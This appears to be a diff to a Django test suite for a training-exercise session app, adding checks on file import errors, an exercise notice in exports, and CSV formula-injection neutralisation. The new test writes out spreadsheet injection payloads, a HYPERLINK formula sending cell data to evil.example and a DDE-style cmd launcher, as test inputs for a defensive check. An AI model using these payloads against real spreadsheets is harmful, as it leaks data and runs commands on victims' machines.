@@ -14,10 +14,10 @@ from django.core.management.base import CommandError
 from django.urls import reverse
 from django.utils import translation
 
+from rehearsal.in_process import rehearse
 from scenarios.models import Scenario, ScenarioVersion
 from sessions import engine, exports, replay
 from sessions.models import AuditEntry, Event, Seat, Session
-from sessions.rehearsal import rehearse
 from tests.sessions.review_helpers import (  # noqa: F401 - fresh_caches is a fixture
     add_objective,
     fresh_caches,
@@ -134,6 +134,8 @@ def _broken(data: dict, how: str) -> dict:
         data["blobs"] = {"0" * 64: {"content_type": "text/plain", "data": "***"}}
     elif how == "date":
         data["events"][2]["created_at"] = "yesterday"
+    elif how == "surrogate":  # "\ud800" in the file decodes to text nothing can show
+        data["events"][4]["payload"]["text"] = json.loads('"hello \\ud800"')
     return data
 
 
@@ -146,6 +148,7 @@ def _broken(data: dict, how: str) -> dict:
     ("hash", "content_hash"),
     ("base64", "not base64"),
     ("date", "ISO date-time"),
+    ("surrogate", "events[4].payload.text: not valid Unicode text"),
 ])
 def test_a_bad_file_is_refused_whole_with_clear_errors(played, trainer, how, message):
     counts = (Session.objects.count(), Event.objects.count(), ScenarioVersion.objects.count())
@@ -212,14 +215,16 @@ def test_json_and_csv_downloads(trainer_client, played):
     response = trainer_client.get(reverse("sessions:export_json", args=[played.pk]))
     assert response.status_code == 200
     assert json.loads(response.content)["format"] == exports.FORMAT
+    assert json.loads(response.content)["notice"] == exports.EXERCISE_NOTICE
     assert "attachment;" in response["Content-Disposition"]
     response = trainer_client.get(reverse("sessions:export_csv", args=[played.pk]))
     text = response.content.decode("utf-8")
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
-    assert rows[0][:5] == ["seq", "horloge", "clock_ms", "created_at", "kind"]
-    assert len(rows) == played.last_seq + 1
-    message = next(r for r in rows if r[4] == "message.sent")
+    assert rows[0] == [exports.EXERCISE_NOTICE]  # exercise material, first thing read
+    assert rows[1][:5] == ["seq", "horloge", "clock_ms", "created_at", "kind"]
+    assert len(rows) == played.last_seq + 2
+    message = next(r for r in rows[1:] if r[4] == "message.sent")
     assert "Bonjour, ici le parquet." in message[9]
     assert AuditEntry.objects.filter(action="session.exported", target_id=str(played.pk)) \
         .count() == 2
@@ -228,3 +233,25 @@ def test_json_and_csv_downloads(trainer_client, played):
 def test_downloads_are_only_for_whoever_may_steer(client, played):
     for name in ("export_json", "export_csv"):
         assert client.get(reverse(f"sessions:{name}", args=[played.pk])).status_code == 302
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(trainer_client, session, boss):
+    """Display names, private notes and safety notes went verbatim into events.csv."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
+    police = Seat.objects.get(session=session, role__ident="police")
+    engine.seat_claim(session_id=session.pk, seat_id=police.pk, name=evil, pass_key="k-evil")
+    who = engine.SeatPrincipal(seat_id=police.pk, pass_key="k-evil")
+    engine.session_start(session_id=session.pk, principal=boss)
+    engine.note_private(session_id=session.pk, principal=who, text="@SUM(1+1)*cmd|' /C calc'!A0")
+    engine.safety_stop(session_id=session.pk, principal=who, note="+1+1")
+    engine.note_add(session_id=session.pk, principal=boss, text="-2+3")
+    text = trainer_client.get(reverse("sessions:export_csv", args=[session.pk])) \
+        .content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c and c[0] in "=+-@\t\r|%"], "a cell would be evaluated"
+    assert f"'{evil}" in cells  # the name column, kept readable
+    summaries = {row[4]: row[9] for row in rows[2:]}
+    assert summaries["note.private"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert summaries["safety.stop"] == "'+1+1"
+    assert summaries["note.added"] == "'-2+3"
